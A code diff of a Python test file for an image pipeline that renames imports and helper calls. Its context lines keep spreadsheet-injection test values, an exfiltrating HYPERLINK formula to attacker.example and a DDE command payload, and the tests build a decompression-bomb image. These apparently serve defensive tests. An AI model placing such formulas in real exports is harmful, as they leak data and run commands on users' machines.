@@ -24,8 +24,9 @@ import torch
 from PIL import Image
 
 from manifests.io import read_committed_table
-from pipeline import samples, thumbs
-from pipeline.config import ConfigError, StorageConfig, ValidateConfig
+from pipeline import thumbs
+from pipeline.testdata import images
+from manifests.config import ConfigError, StorageConfig, ValidateConfig
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
 CMD = "-2+3+cmd|' /C calc'!A0"
@@ -43,7 +44,7 @@ def finished(tmp_path_factory, ray_local, good):
     /proc, where nothing can be created, root or not); it records whether the run was
     committed when its report started, and what it printed on stderr."""
     from pipeline import plan, report
-    from pipeline.config import load_config
+    from manifests.config import load_config
 
     root = tmp_path_factory.mktemp("outputs")
     src = root / "in"
@@ -52,7 +53,7 @@ def finished(tmp_path_factory, ray_local, good):
     for n in names:
         (src / n).write_bytes(good[n])
     bomb = Image.new("1", (BOMB_SIDE, BOMB_SIDE))
-    (src / "bomb.png").write_bytes(samples.encode(bomb, "PNG"))
+    (src / "bomb.png").write_bytes(images.encode(bomb, "PNG"))
     jpg = good["astronaut.jpg"]
     (src / "truncated.jpg").write_bytes(jpg[: len(jpg) // 2])
     uris = [str(src / n) for n in [*names, "bomb.png", "truncated.jpg"]]
@@ -128,11 +129,11 @@ def test_thumbnails_read_only_safe_rejects_and_decode_them_under_the_runs_limits
     reason is harmless but whose file is now a bomb is refused by validate's header check,
     as is a file over max_bytes; a too-small image is still shown."""
     bomb = tmp_path / "bomb.png"
-    bomb.write_bytes(samples.encode(Image.new("1", (BOMB_SIDE, BOMB_SIDE)), "PNG"))
+    bomb.write_bytes(images.encode(Image.new("1", (BOMB_SIDE, BOMB_SIDE)), "PNG"))
     small = tmp_path / "small.png"
-    small.write_bytes(samples.encode(Image.fromarray(photos["coffee"]).resize((40, 30)), "PNG"))
+    small.write_bytes(images.encode(Image.fromarray(photos["coffee"]).resize((40, 30)), "PNG"))
     big = tmp_path / "big.jpg"
-    big.write_bytes(samples.encode(Image.fromarray(photos["astronaut"]), "JPEG", quality=95))
+    big.write_bytes(images.encode(Image.fromarray(photos["astronaut"]), "JPEG", quality=95))
     gone = tmp_path / "gone.png"
     limits = ValidateConfig(max_pixels=MAX_PIXELS, max_bytes=big.stat().st_size - 1)
     wanted = {str(gone): "decompression_bomb", str(bomb): "nonnatural", str(small): "too_small",
@@ -187,7 +188,7 @@ def test_re_export_replaces_only_its_own_files_and_skips_changed_sources(finishe
     changed = next(r for r in curated.values() if r["uri"].endswith("rotated6.jpg"))
     source = Path(changed["uri"])
     kept = source.read_bytes()
-    source.write_bytes(samples.encode(Image.new("RGB", (300, 200), (9, 99, 199)), "JPEG"))
+    source.write_bytes(images.encode(Image.new("RGB", (300, 200), (9, 99, 199)), "JPEG"))
     try:
         again = export_run(str(out), str(dest), shard_size=100, max_pixels=20_000)
     finally:
